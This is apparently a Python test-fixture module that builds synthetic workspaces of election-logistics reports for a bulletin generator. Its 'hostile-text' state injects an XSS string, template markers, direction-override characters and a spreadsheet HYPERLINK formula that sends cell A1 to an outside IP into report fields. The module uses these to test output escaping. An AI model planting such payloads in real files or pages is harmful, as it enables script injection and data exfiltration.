"""The states of the season that the bulletin must look right in, each a small real workspace."""

from __future__ import annotations

import shutil
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path

from pipeline.sample import SamplePlan, write_sample
from pipeline.sample.synthetic import write_config
from pipeline.settings import Settings
from pipeline.settings.loading import load_settings
from pipeline.settings.model import Baseline, Region
from tests.states import reports
from tests.states.reports import EVERYWHERE, IN_THE_WAREHOUSE, ON_THE_ROAD, Desk

MAHULU, KUTIM = "64.11", "64.08"
LATE = (KUTIM, MAHULU)
ALONE = "64.03"
MANY = 40
WORD_WITHOUT_BREAK = "Pertanggungjawabanpengamanandistribusilogistikpemilihankepaladaerah" * 2
LONG_TEXT = (
    "Jalan poros dari gudang kabupaten ke kecamatan terjauh terputus di tiga tempat akibat longsor dan "
    "banjir, sehingga truk bermuatan kotak suara, bilik, dan surat suara harus menunggu alat berat; "
    "warga dan aparat kampung membantu memindahkan muatan dengan perahu ketinting melewati riam, "
    "sedangkan sebagian lain ditinggal di balai desa dengan penjagaan petugas Linmas, Polsek, dan "
    "Koramil selama dua malam sampai air surut, dan berita acaranya dibuat di tempat. "
) * 3
HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&amp;</td></table>{{ view }}{% raw %}"
    "{0}%s</svg>]]>--><style>body{display:none}</style>"
)
TURNED_ROUND = "Kotak\N{RIGHT-TO-LEFT OVERRIDE}gnosok\N{POP DIRECTIONAL FORMATTING}\N{ZERO WIDTH SPACE}"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1;"klik")'


@dataclass(frozen=True, slots=True)
class State:
    """One state: its name, the meeting, and what writes its workspace.

    ``write`` fills a folder with reports (below ``inputs``) and returns the settings to read them by.
    """

    name: str
    meeting: date
    write: Callable[[Path, Settings], Settings]


def nothing_yet(folder: Path, settings: Settings) -> Settings:
    """The very first week: no desk has sent anything."""
    (folder / "inputs").mkdir()
    return settings


def shipped_season(folder: Path, settings: Settings) -> Settings:
    """The season that is shipped as sample: on 18 November three desks are silent."""
    write_sample(folder, settings, SamplePlan())
    return settings


def season_at(meeting: date) -> Callable[[Path, Settings], Settings]:
    """The sample's season as it had arrived by the day of a meeting, and nothing that came later."""

    def write(folder: Path, settings: Settings) -> Settings:
        write_sample(folder, settings, SamplePlan(weeks=5))
        for received in (folder / "inputs").iterdir():
            if received.is_dir() and received.name > meeting.isoformat():
                shutil.rmtree(received)
        return settings

    return write


def on_folio(folder: Path, settings: Settings) -> Settings:
    """The shipped season for an office that prints on F4."""
    shipped_season(folder, settings)
    return settings.model_copy(update={"edition": settings.edition.model_copy(update={"paper": "F4"})})


def two_late(folder: Path, settings: Settings) -> Settings:
    """Two days before the vote: goods are at all PPK but those of two regions."""
    for desk in desks(folder, settings, date(2024, 11, 20), days=5):
        reports.goods(desk, settings, IN_THE_WAREHOUSE if desk.region.code in LATE else ON_THE_ROAD)
        reports.readiness(desk, settings, 90)
        if desk.region.code in LATE:
            reports.issue(desk, uraian="Sungai surut, perahu tidak dapat lewat", tingkat="kritis")
        else:
            reports.nothing_to_tell(desk)
    return settings


def all_complete(folder: Path, settings: Settings) -> Settings:
    """The eve of the vote: everything has arrived at every TPS, nothing is open."""
    for desk in desks(folder, settings, date(2024, 11, 19), days=7):
        reports.goods(desk, settings, EVERYWHERE)
        reports.readiness(desk, settings, 100)
        reports.nothing_to_tell(desk)
    return settings


def voting_week(folder: Path, settings: Settings) -> Settings:
    """The Monday after the vote: goods have arrived, two voters of three have voted."""
    for desk in desks(folder, settings, date(2024, 11, 25), days=7):
        reports.goods(desk, settings, EVERYWHERE)
        reports.nothing_to_tell(desk)
        if desk.day >= settings.milestones.voting_day:
            reports.turnout(desk, 66)
    return settings


def counting_over(folder: Path, settings: Settings) -> Settings:
    """Twelve days after the vote: no desk reports goods any more, one never had them all."""
    late = date(2024, 11, 27)
    for desk in desks(folder, settings, date(2024, 11, 25), days=14):
        if desk.day <= late:
            reports.goods(desk, settings, ON_THE_ROAD if desk.region.code == MAHULU else EVERYWHERE)
        if desk.day == date(2024, 11, 30):
            reports.turnout(desk, 66)
        if desk.region.code == KUTIM:
            reports.issue(desk, uraian="Rekapitulasi kecamatan tertunda", tenggat="2024-12-05")
        else:
            reports.nothing_to_tell(desk)
    return settings


def silent_week(folder: Path, settings: Settings) -> Settings:
    """The shipped season, and a week later still not one new report."""
    return shipped_season(folder, settings)


def one_region(folder: Path, settings: Settings) -> Settings:
    """A desk that runs the program for its own region alone."""
    alone = of_regions(folder, settings, [settings.baseline.by_code[ALONE]])
    for desk in desks(folder, alone, date(2024, 11, 12), days=6):
        reports.goods(desk, alone, IN_THE_WAREHOUSE)
        reports.readiness(desk, alone, 50)
        reports.issue(desk)
    return alone


def forty_regions(folder: Path, settings: Settings) -> Settings:
    """A province of forty made-up regions in its first week of reports."""
    write_sample(folder, settings, SamplePlan(weeks=1, regions=MANY, districts=2 * MANY))
    return load_settings(folder / "config" / "pipeline.yaml")


def long_names(folder: Path, settings: Settings) -> Settings:
    """Names and texts that are longer than any real one."""
    regions = [
        region.model_copy(
            update={
                "name": f"Kabupaten {region.short_name} Kepulauan Pegunungan Sepanjang Hulu Sungai Mahakam",
                "short_name": f"{region.short_name} Kepulauan Pegunungan Hulu",
                "aliases": (),
            }
        )
        for region in settings.baseline.by_code.values()
    ]
    stretched = of_regions(folder, settings, regions)
    for desk in desks(folder, stretched, date(2024, 11, 14), days=4):
        reports.goods(desk, stretched, IN_THE_WAREHOUSE)
        reports.issue(
            desk, uraian=LONG_TEXT, tindak_lanjut=LONG_TEXT, penanggung_jawab=WORD_WITHOUT_BREAK,
            sumber=LONG_TEXT,
        )  # fmt: skip
    _province_papers(folder / "inputs", LONG_TEXT, WORD_WITHOUT_BREAK)
    return stretched


def hostile(folder: Path, settings: Settings) -> Settings:
    """A field that writes markup, formulas and control marks into every cell that takes text."""
    for number, desk in enumerate(desks(folder, settings, date(2024, 11, 17), days=1)):
        text = (HOSTILE, TURNED_ROUND, FORMULA)[number % 3]
        reports.goods(desk, settings, IN_THE_WAREHOUSE)
        reports.issue(
            desk, nomor=text, uraian=text, sumber=text, penanggung_jawab=text[:60], tindak_lanjut=text,
            tingkat="kritis",
        )  # fmt: skip
    _province_papers(folder / "inputs", HOSTILE, FORMULA)
    return settings


def _province_papers(inputs: Path, text: str, name: str) -> None:
    """A decision and a visit of the province with the given text and name."""
    reports.write(
        inputs, "2024-11-15/keputusan.csv",
        ["nomor", "rapat", "keputusan", "penanggung_jawab", "tenggat", "status", "tanggal", "keterangan"],
        [["KR-01", "2024-11-11", text, name, "2024-11-14", "proses", "2024-11-15", text]],
    )  # fmt: skip
    reports.write(
        inputs, "2024-11-15/kunjungan.csv",
        ["nomor", "tanggal", "wilayah", "tim", "moda", "tujuan", "status", "temuan", "tindak_lanjut"],
        [["KL-01", "2024-11-13", "64.11", name, "sungai", text, "terlaksana", text, text]],
    )  # fmt: skip


def desks(folder: Path, settings: Settings, first: date, *, days: int) -> list[Desk]:
    """Every desk on each of the days from ``first`` on; what it sends arrives on the same day."""
    return [
        Desk(region, first + timedelta(days=n), folder / "inputs")
        for n in range(days)
        for region in settings.baseline.by_code.values()
    ]


def of_regions(folder: Path, settings: Settings, regions: Sequence[Region]) -> Settings:
    """Write the shipped configuration with these regions instead, and load it from its files."""
    kept = {
        code: own for code, own in settings.milestones.regions.items() if code in {r.code for r in regions}
    }
    about = {
        "baseline": _baseline(settings, regions),
        "milestones": settings.milestones.model_copy(update={"regions": kept}),
    }
    write_config(folder / "config", settings.model_copy(update=about))
    return load_settings(folder / "config" / "pipeline.yaml")


def _baseline(settings: Settings, regions: Sequence[Region]) -> Baseline:
    totals = settings.baseline.totals.model_copy(
        update={
            "regions": len(regions),
            "registered_voters": sum(r.registered_voters for r in regions),
            "polling_stations": sum(r.polling_stations for r in regions),
            "districts": sum(len(r.districts) for r in regions),
            "villages": sum(r.villages for r in regions),
        }
    )
    known = {region.code for region in regions}
    codes = {bps: code for bps, code in settings.baseline.statistics_codes.items() if code in known}
    return settings.baseline.model_copy(
        update={"regions": tuple(regions), "totals": totals, "statistics_codes": codes}
    )


FIRST_WEEK = State("first-week", date(2024, 10, 28), nothing_yet)
THE_18TH = State("the-18th", date(2024, 11, 18), shipped_season)
TWO_LATE = State("two-late", date(2024, 11, 25), two_late)
COMPLETE = State("all-complete", date(2024, 11, 26), all_complete)
VOTED = State("voting-week", date(2024, 12, 2), voting_week)
COUNTED = State("counting-over", date(2024, 12, 9), counting_over)
SILENT = State("silent-week", date(2024, 11, 25), silent_week)
ONE = State("one-region", date(2024, 11, 18), one_region)
FORTY = State("forty-regions", date(2024, 11, 4), forty_regions)
LONG = State("long-names", date(2024, 11, 18), long_names)
HOSTILE_TEXT = State("hostile-text", date(2024, 11, 18), hostile)
WEEKS = tuple(
    State(f"week-of-{day}", day, season_at(day))
    for day in (date(2024, 11, 11), date(2024, 11, 18), date(2024, 11, 25))
)
"""Three Mondays of one season, one after the other."""
FOLIO = State("folio", date(2024, 11, 18), on_folio)

STATES = (
    FIRST_WEEK, THE_18TH, TWO_LATE, COMPLETE, VOTED, COUNTED, SILENT, ONE, FORTY, LONG, HOSTILE_TEXT,
)  # fmt: skip
